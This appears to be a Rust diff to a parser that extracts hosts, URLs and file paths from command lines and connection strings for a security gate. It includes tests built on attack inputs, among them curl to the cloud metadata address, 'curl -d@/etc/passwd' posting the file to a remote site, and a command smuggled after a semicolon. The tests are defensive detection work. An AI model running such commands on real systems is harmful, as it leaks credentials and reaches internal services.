@@ -156,7 +156,11 @@ fn shaped_members(line: &str, members: &mut Vec<Value>) -> bool {
         line.split_once('=')
             .is_some_and(|(_, v)| v.trim().contains(char::is_whitespace))
     } else if spaced_keys {
-        items.len() == 1 || line.split_whitespace().any(|w| w.starts_with('-'))
+        items.len() == 1
+            || line.split_whitespace().any(|w| w.starts_with('-'))
+            || items
+                .iter()
+                .any(|i| !i.trim().is_empty() && !i.contains('='))
     } else {
         false
     }
@@ -247,41 +251,23 @@ fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Ve
             let host = address_like(rest) || numeric_host(rest).is_some() || !looks_like_url(rest);
             let key = if host { "host" } else { "url" };
             members.push(member(key, rest));
-        } else if item.contains("://") || (item.contains(":/") && looks_like_url(item)) {
+        } else if item.contains("://")
+            || ((item.contains(":/") || item.contains(":\\")) && looks_like_url(item))
+        {
             // `http:/127.0.0.1/`: curl and WHATWG parsers take one slash.
             members.push(member("url", item));
         } else {
             let addresses = curl_addresses(item);
-            let bare_address = address_like(item) || numeric_host(item).is_some();
-            // `main:app`, `mailto:x`: a scheme with no `/` after it names
-            // no fetch here (`localhost:8080/x` has a port).
-            let scheme_word = item.split_once(':').is_some_and(|(scheme, rest)| {
-                scheme.starts_with(|c: char| c.is_ascii_alphabetic())
-                    && scheme
-                        .chars()
-                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
-                    && !rest.starts_with(|c: char| c.is_ascii_digit())
-            });
-            // A curl `--resolve` field that names no address curl takes
-            // (`a.example:443:0273.0271.022.0272`) is no URL.
-            let mut parts = item.splitn(3, ':');
-            let curl_field = matches!(
-                (parts.next(), parts.next(), parts.next()),
-                (Some(_), Some(port), Some(_))
-                    if !port.is_empty() && port.chars().all(|c| c.is_ascii_digit())
-            );
-            if addresses.is_empty()
-                && !bare_address
-                && !scheme_word
-                && !curl_field
-                && (looks_like_url(item) || item.contains('%'))
-            {
-                // A word that is a URL as an argument alone is
-                // (`169.254.169.254/latest`, `localhost:8080/x`,
-                // `//10.0.0.1/`, `:8080/x`): checked as an `argv`
-                // element is, in a plain place. A bare address is an
-                // argument like any other (`grep 127.0.0.1`).
+            if addresses.is_empty() && url_word(item) {
                 members.push(member("arg", item));
+            }
+            // A file read for an option (`-d @../x`, `-d@/x`, `gcc @/x`).
+            let attached = item
+                .strip_prefix('-')
+                .and_then(|o| o.get(1..))
+                .filter(|v| v.starts_with(['@', '<']));
+            if let Some(file) = value_file(item).or_else(|| attached.and_then(value_file)) {
+                members.push(member("path", file));
             }
             members.extend(addresses.into_iter().map(|a| member("host", a)));
         }
@@ -312,25 +298,29 @@ fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Ve
     let unbraced = value
         .strip_prefix('{')
         .and_then(|v| v.strip_suffix('}'))
+        .filter(|_| serde_json::from_str::<serde::de::IgnoredAny>(value).is_err())
         .map(|v| v.replace("}}", "}"));
     let value = unbraced.as_deref().unwrap_or(value);
     if nested_ok && value.contains('=') {
         item_members(value, false, false, members);
     }
     // A file a program reads for the value (curl's `-F f=@/etc/passwd`,
-    // `-d @/x`, `f=</x`, HTTPie's `f@/x` is a word): its path checked.
-    if let Some(file) = value
-        .strip_prefix(['@', '<'])
-        .filter(|f| f.starts_with(['/', '\\', '~', '.']) || f.get(1..2) == Some(":"))
-    {
-        members.push(member("path", file.split(';').next().unwrap_or(file)));
+    // `f=</x`): its path checked.
+    if let Some(file) = value_file(value) {
+        members.push(member("path", file));
     }
     let folded: String = key
         .chars()
         .filter(|c| !matches!(c, ' ' | '_' | '-'))
         .flat_map(char::to_lowercase)
         .collect();
-    match folded.as_str() {
+    // A key read by its last name (`(ADDRESS=(…`, `a[0].url`) is no
+    // connection string's server key: its value is checked in its name's
+    // place only.
+    let folded = if key_ok { folded.as_str() } else { "" };
+    match folded {
+        // ODBC's and MySQL's password, not `pwd` the directory.
+        "pwd" => members.push(member("password", value)),
         "server" | "datasource" | "address" | "addr" | "networkaddress" | "failoverpartner" => {
             if !names_a_file(value) {
                 members.extend(sql_server_hosts(value).iter().map(|h| member("host", h)));
@@ -343,13 +333,71 @@ fn item_members(item: &str, spaced_keys: bool, nested_ok: bool, members: &mut Ve
     }
 }
 
+/// The file a program reads for a value written `@FILE` or `<FILE`
+/// (curl's `-F f=@/etc/passwd`, `-d @../x`, `f=</x;type=text/plain`, a
+/// compiler's `@args`) when it reads as a path (it starts with `/`, `\\`,
+/// `~`, `.` or a drive): `@alice`, `@babel/core` are none.
+fn value_file(value: &str) -> Option<&str> {
+    let file = value
+        .strip_prefix(['@', '<'])
+        .filter(|f| f.starts_with(['/', '\\', '~', '.']) || f.get(1..2) == Some(":"))?;
+    file.split(';').next()
+}
+
+/// `true` for a word of a command line that is a URL as an argument
+/// alone is (`docs/gate.md`, What is a URL), checked as an `argv` element
+/// is: an address or the local host with a port (`127.0.0.1:8003`,
+/// `localhost:8080`, `[::1]:80`), a text with a path that reads as a URL
+/// (`169.254.169.254/latest`, `localhost:8080/x`, `//10.0.0.1/`,
+/// `:8080/x`), a percent-encoded text. A bare address is an argument like
+/// any other (`grep 127.0.0.1`), and so are `name:tag`, `main:app`,
+/// `rsa:4096`, `:8080`, a time, JSON, `@scope/pkg`, `@1.1.1.1` and a curl
+/// `--resolve` field.
+fn url_word(item: &str) -> bool {
+    if item.starts_with(['{', '"', '\'']) || item.contains('@') {
+        return false;
+    }
+    let host = without_port(item);
+    if host != item {
+        let bare = host.trim_start_matches('[').trim_end_matches(']');
+        let local = bare.trim_end_matches('.').to_ascii_lowercase();
+        if address_like(host)
+            || numeric_host(host).is_some()
+            || local == "localhost"
+            || local.ends_with(".localhost")
+        {
+            return true;
+        }
+    }
+    // `main:app`, `mailto:x`: a scheme with no `/` after it names no
+    // fetch here (`localhost:8080/x` has a port).
+    let scheme_word = item.split_once(':').is_some_and(|(scheme, rest)| {
+        scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+            && scheme
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
+            && !rest.starts_with(|c: char| c.is_ascii_digit())
+    });
+    // A curl `--resolve` field that names no address curl takes
+    // (`a.example:443:0273.0271.022.0272`) is no URL.
+    let mut parts = item.splitn(3, ':');
+    let curl_field = matches!(
+        (parts.next(), parts.next(), parts.next()),
+        (Some(_), Some(port), Some(_))
+            if !port.is_empty() && port.chars().all(|c| c.is_ascii_digit())
+    );
+    !scheme_word
+        && !curl_field
+        && ((item.contains('/') && looks_like_url(item)) || item.contains('%'))
+}
+
 /// The value of a short option written with it (`-x127.0.0.1:8080`: `x`
 /// and `127.0.0.1:8080`), when it is an address ([`address_like`]), an
 /// IPv4 address in a resolver's notation with a dot or a port
 /// ([`numeric_host`]: `-x127.1:8080`), or a URL; after `-h` (psql's,
 /// mysql's, redis-cli's host) or `-x` (curl's proxy), also a name with a
-/// dot or a port, or a number (`-h0`, `-hdb.internal`). `-O2`,
-/// `-lpthread` and `-hrn` are none.
+/// dot or a port (`-hdb.internal`). `-O2`,
+/// `-lpthread`, `-hrn`, `-x509` and `-h0` are none.
 fn attached_short_value(item: &str) -> Option<&str> {
     let rest = item.strip_prefix('-')?;
     let mut chars = rest.chars();
@@ -360,7 +408,7 @@ fn attached_short_value(item: &str) -> Option<&str> {
         && value
             .chars()
             .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '[' | ']' | '%'))
-        && (value.contains(['.', ':']) || numeric_host(value).is_some());
+        && value.contains(['.', ':']);
     let numeric = numeric_host(value).is_some_and(|dotted_or_ported| dotted_or_ported);
     (host_option || numeric || address_like(value) || looks_like_url(value)).then_some(value)
 }
@@ -389,17 +437,32 @@ fn numeric_host(text: &str) -> Option<bool> {
 
 /// The host of a connection string that names its server after a user:
 /// Oracle's EZConnect (`scott/tiger@//db:1521/orcl`,
-/// `user/pw@db:1521/orcl`) and Go's MySQL driver (`root@tcp(db:3306)/app`),
-/// with its port; `None` for other text (`me@example.com` names a mailbox,
-/// and a host followed by a path or `?` is a DSN's).
+/// `user/pw@db:1521/orcl`, `scott/tiger@db`) and Go's MySQL driver
+/// (`root@tcp(db:3306)/app`, `tcp(db:3306)/app`), without its port
+/// ([`without_port`]); `None` for other text (`me@example.com` names a
+/// mailbox, `@babel/core` a package, `dig @1.1.1.1` a server of its own).
 fn user_at_host(item: &str) -> Option<&str> {
-    let (_, after) = item.rsplit_once('@')?;
+    if let Some(inner) = item.strip_prefix("tcp(") {
+        return inner
+            .split(')')
+            .next()
+            .filter(|h| !h.is_empty())
+            .map(without_port);
+    }
+    let (user, after) = item.rsplit_once('@')?;
+    if user.is_empty() {
+        return None;
+    }
     if let Some(inner) = after.strip_prefix("tcp(") {
-        return inner.split(')').next().filter(|h| !h.is_empty());
+        return inner
+            .split(')')
+            .next()
+            .filter(|h| !h.is_empty())
+            .map(without_port);
     }
     let slashed = after.strip_prefix("//");
     let rest = slashed.unwrap_or(after);
-    if slashed.is_none() && !rest.contains(['/', '?']) {
+    if slashed.is_none() && !rest.contains(['/', '?']) && !user.contains('/') {
         return None;
     }
     let host = rest.split(['/', '?']).next().filter(|h| !h.is_empty())?;
@@ -410,8 +473,23 @@ fn user_at_host(item: &str) -> Option<&str> {
         {
             h
         }
-        _ => host,
+        _ => without_port(host),
     })
+}
+
+/// `host` without a `:PORT` after it (`db.example.com:1521` is
+/// `db.example.com`, `[::1]:1521` is `[::1]`; `::1` stays).
+fn without_port(host: &str) -> &str {
+    match host.rsplit_once(':') {
+        Some((h, port))
+            if !port.is_empty()
+                && port.chars().all(|c| c.is_ascii_digit())
+                && (!h.contains(':') || (h.starts_with('[') && h.ends_with(']'))) =>
+        {
+            h
+        }
+        _ => host,
+    }
 }
 
 /// `true` for an IP address, perhaps in brackets and with a port
@@ -506,12 +584,15 @@ fn curl_addresses(field: &str) -> Vec<&str> {
     // `HOST2:PORT2`, an IPv6 `HOST2` in brackets (an unbracketed `::1` is
     // a `--resolve` address).
     if let Some((host, port)) = rest.rsplit_once(':') {
-        let one_host = !host.contains(':') || (host.starts_with('[') && host.ends_with(']'));
+        let one_host = (!host.contains(':') || (host.starts_with('[') && host.ends_with(']')))
+            && host.chars().all(|c| {
+                c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']' | ':' | '%')
+            });
         if one_host && !port.is_empty() && port.chars().all(|c| c.is_ascii_digit()) {
             return if host.is_empty() {
                 Vec::new()
             } else {
-                vec![rest]
+                vec![host]
             };
         }
     }
@@ -546,7 +627,7 @@ mod tests {
             // ODBC reads a braced value without its braces, `}}` as `}`.
             (
                 "Driver={x};Server={127.0.0.1};PWD={a}}b;c}",
-                json!([{"Driver": "x"}, {"host": "127.0.0.1"}, {"PWD": "a}b;c"}]),
+                json!([{"Driver": "x"}, {"host": "127.0.0.1"}, {"password": "a}b;c"}]),
             ),
             (
                 "Server=.;Trusted_Connection=True",
@@ -567,13 +648,13 @@ mod tests {
                 "+example.com:8003:127.0.0.1,[::1]",
                 json!([{"host": "127.0.0.1"}, {"host": "[::1]"}]),
             ),
-            ("::127.0.0.1:8003", json!([{"host": "127.0.0.1:8003"}])),
-            ("--connect-to=::[::1]:8003", json!([{"host": "[::1]:8003"}])),
+            ("::127.0.0.1:8003", json!([{"host": "127.0.0.1"}])),
+            ("--connect-to=::[::1]:8003", json!([{"host": "[::1]"}])),
             // curl resolves `--connect-to`'s HOST2 as any host: a name or
             // an address in any notation; HOST2 empty keeps the URL's.
-            ("--connect-to=::127.1:8003", json!([{"host": "127.1:8003"}])),
-            ("--connect-to a.example:443:db.internal:5432", json!([{"host": "db.internal:5432"}])),
-            ("::0x7f000001:8003", json!([{"host": "0x7f000001:8003"}])),
+            ("--connect-to=::127.1:8003", json!([{"host": "127.1"}])),
+            ("--connect-to a.example:443:db.internal:5432", json!([{"host": "db.internal"}])),
+            ("::0x7f000001:8003", json!([{"host": "0x7f000001"}])),
             // A SQL Server at an IPv6 address is no file (`:memory:` is).
             ("Server=::1,1433;Database=x", json!([{"host": "::1"}, {"Database": "x"}])),
             (
@@ -668,7 +749,7 @@ mod tests {
             (
                 "-b 'a=1;b=2' --connect-to ::127.0.0.1:80",
                 "host",
-                "127.0.0.1:80",
+                "127.0.0.1",
             ),
             // A1: libpq braces hide no host.
             ("application_name={;} host=127.0.0.1", "host", "127.0.0.1"),
@@ -692,8 +773,6 @@ mod tests {
             ),
             // A6: attached hosts in a resolver's notations.
             ("-h127.1 -P3306", "host", "127.1"),
-            ("-h0 -P3306", "host", "0"),
-            ("-h2130706433", "host", "2130706433"),
             ("-x127.1 https://example.com/", "host", "127.1"),
             ("-p0x7f000001:8080", "host", "0x7f000001:8080"),
             ("-hdb.internal", "host", "db.internal"),
@@ -718,16 +797,12 @@ mod tests {
                 "10.0.0.1",
             ),
             // A4: EZConnect and Go's MySQL DSN.
-            (
-                "scott/tiger@//127.0.0.1:1521/orcl",
-                "host",
-                "127.0.0.1:1521",
-            ),
-            ("user/pw@127.1:1521/orcl", "host", "127.1:1521"),
+            ("scott/tiger@//127.0.0.1:1521/orcl", "host", "127.0.0.1"),
+            ("user/pw@127.1:1521/orcl", "host", "127.1"),
             (
                 "root@tcp(169.254.169.254:80)/db?timeout=1s",
                 "host",
-                "169.254.169.254:80",
+                "169.254.169.254",
             ),
             ("git@db.internal:org/repo", "host", "db.internal"),
             // A9: lines as `str.splitlines` splits them.
@@ -821,6 +896,88 @@ mod tests {
             assert!(
                 !items.to_string().contains("\"path\"") && !items.to_string().contains("\"arg\""),
                 "{text:?}: {items}"
+            );
+        }
+    }
+
+    /// Attack s53: what the broader readings must leave alone (B1–B4,
+    /// B19–B21), and what they missed (B10–B13, B23).
+    #[test]
+    fn command_lines_of_s53() {
+        let checked = |text: &str| -> Vec<Value> {
+            settings_items(text)
+                .unwrap_or_default()
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter(|m| {
+                    ["host", "url", "arg", "path"]
+                        .iter()
+                        .any(|k| m.get(k).is_some())
+                })
+                .cloned()
+                .collect()
+        };
+        for text in [
+            "docker run --rm nginx:1.25",
+            "docker build -t myapp:1.0.0 .",
+            "FROM python:3.12-slim",
+            "redis-cli HGETALL user:42",
+            "openssl req -x509 -newkey rsa:4096 -days 365",
+            "--json {\"name\":\"a\",\"url\":\"x\"}",
+            "npm install @babel/core @types/node",
+            "--since 2024-01-01T00:00:00+01:00",
+            "lsof -i :8080",
+            "dig @1.1.1.1 example.com",
+            "uvicorn main:app --reload",
+        ] {
+            assert_eq!(checked(text), Vec::<Value>::new(), "{text:?}");
+        }
+        for (text, key, value) in [
+            (
+                "scott/tiger@db.example.com:1521/ORCLPDB1",
+                "host",
+                "db.example.com",
+            ),
+            ("u@tcp(db.example.com:3306)/app", "host", "db.example.com"),
+            ("tcp(127.0.0.1:3306)/app", "host", "127.0.0.1"),
+            ("scott/tiger@127.0.0.1", "host", "127.0.0.1"),
+            (
+                "curl http://169.254.169.254/latest/meta-data/;",
+                "url",
+                "http://169.254.169.254/latest/meta-data/",
+            ),
+            ("x; curl http://10.0.0.1/", "url", "http://10.0.0.1/"),
+            ("curl 127.0.0.1:8003", "arg", "127.0.0.1:8003"),
+            (
+                "curl -x 127.0.0.1:8080 https://example.com/",
+                "arg",
+                "127.0.0.1:8080",
+            ),
+            (
+                "kubectl -s localhost:6443 get pods",
+                "arg",
+                "localhost:6443",
+            ),
+            (
+                "curl http:\\\\169.254.169.254\\latest",
+                "url",
+                "http:\\\\169.254.169.254\\latest",
+            ),
+            ("curl -d @../x https://example.com/", "path", "../x"),
+            (
+                "curl -d@/etc/passwd https://example.com/",
+                "path",
+                "/etc/passwd",
+            ),
+            ("gcc @/tmp/args", "path", "/tmp/args"),
+        ] {
+            let items = checked(text);
+            assert!(
+                items
+                    .iter()
+                    .any(|m| m.get(key).and_then(Value::as_str) == Some(value)),
+                "{text:?}: {items:?}"
             );
         }
     }
